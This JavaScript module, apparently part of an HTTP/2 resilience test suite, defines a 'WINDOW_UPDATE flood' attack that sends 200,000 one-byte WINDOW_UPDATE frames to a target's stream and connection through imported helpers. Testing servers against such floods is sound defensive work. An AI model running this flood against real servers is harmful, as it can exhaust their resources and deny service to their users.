// WINDOW_UPDATE by one byte, on a stream and on the connection.
import { windowUpdate } from "../../raw/frames.mjs";
import { flood } from "../flood.mjs";

export const name = "WINDOW_UPDATE flood";

export function attack(target) {
  return flood(
    target,
    200_000,
    (i) => windowUpdate(i % 2, 1),
    () => target.request("mute", 1),
  );
}
